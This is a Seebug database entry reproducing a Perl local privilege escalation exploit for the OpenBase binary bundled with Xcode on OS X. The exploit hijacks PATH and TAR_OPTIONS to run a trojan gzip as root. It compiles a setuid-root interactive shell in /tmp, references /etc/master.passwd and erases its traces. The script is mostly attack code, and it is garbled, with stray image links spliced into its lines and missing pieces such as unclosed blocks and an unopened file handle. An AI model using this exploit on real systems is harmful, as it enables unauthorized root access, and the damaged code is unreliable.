Xcode OpenBase <= 9.1.5 Local Root Exploit (OSX)

ID SSV:5454
Type seebug
Reporter Root
Modified 2006-10-31T00:00:00


No description provided by source.

# http://www.digitalmunition.com
# written by kf (kf_lists[at]digitalmunition[dot]com)
# http://docs.info.apple.com/article.html?artnum=61798 (This won't help)
# ftp://www.openbase.com/pub/OpenBase_10.0 (This will)
# This is an exploit for a 3rd party program that has been bundled with Xcode on several occasions.
# The OpenBase binary calls gnutar while running with euid=0 by passing TAR_OPTIONS we can cause gzip to be
# invoked. Since no path is specified we can export PATH=/path/to/trojan:$PATH in order to take root.

$binpath = "/Library/OpenBase/bin/OpenBase"; # Typical location.

# In this instance targets are really pointless but I wanted to archive known vulnerable versions while testing.
$tgts{"0"} = "xcode_2-1.2_8m654_018213974.dmg:$binpath ";
$tgts{"1"} = "OpenBase9.1.5_MacOSX.dmg:$binpath ";
$tgts{"2"} = "OpenBase8.0.4_MacOSX.dmg:$binpath ";
$tgts{"3"} = "OpenBase7.0.15_MacOSX.dmg:$binpath ";

unless (($target) = @ARGV) {
        print "\n\nUsage: $0 <target> \n\nTargets:\n\n";

        foreach $key (sort(keys %tgts)) {
                ($a,$b) = split(/\:/,$tgts{"$key"});
                print "\t$key . $a\n";

        print "\n";
        exit 1;

$ret = pack("l", ($retval));
($a,$b) = split(/\:/,$tgts{"$target"});
print "*** Target: $a $b\n";printf OP "main()\n";
printf OP "{ seteuid(0); setegid(0); setuid(0); setgid(0); system(\"/bin/sh -i\"); }\n";
system("gcc -o /tmp/shX /tmp/proactive.c");

printf OP "main()\n";
printf OP "{ system(\"chown root: /tmp/shX; chmod 4755 /tmp/shX; rm -rf /tmp/or_really_reactive.c /tmp/proactive.c /tmp/pwndertino.* /tmp/gzip\"); }\n";
system("gcc -o /tmp/gzip /tmp/or_really_reactive.c");

system("mkdir /tmp/pwndertino.db");
system("echo \"Way to proactively audit 3rd party binaries before cramming them into a release\"> /tmp/pwndertino.db/port");
system("echo \"I wonder how long these vulnerable suids have been bundled with xcode \"> /tmp/pwndertino.db/encoding");
system("echo \"All your Mac are belong to us \"> /tmp/pwndertino.db/threads");
system("echo \"Welcome to pwndertino \"> /tmp/pwndertino.db/notification");
system("echo \"For the protection of our customers, Apple does not disclose, discuss, or confirm security issues until a full investigation has occurred and any necessary patches or releases are available \"> /tmp/pwndertino.db/simulationMode");
system("echo \"To learn more about Apple Product Security, see the Apple Computer Product Security Incident Response website\" > /tmp/pwndertino.db/safe_sql_mode");

system("export TAR_OPTIONS=\"-zv/etc/master.passwd\"; export PATH=/tmp:/bin:/sbin:/usr/bin:/usr/sbin:/usr/local/bin;$b../../../../../../tmp/pwndertino");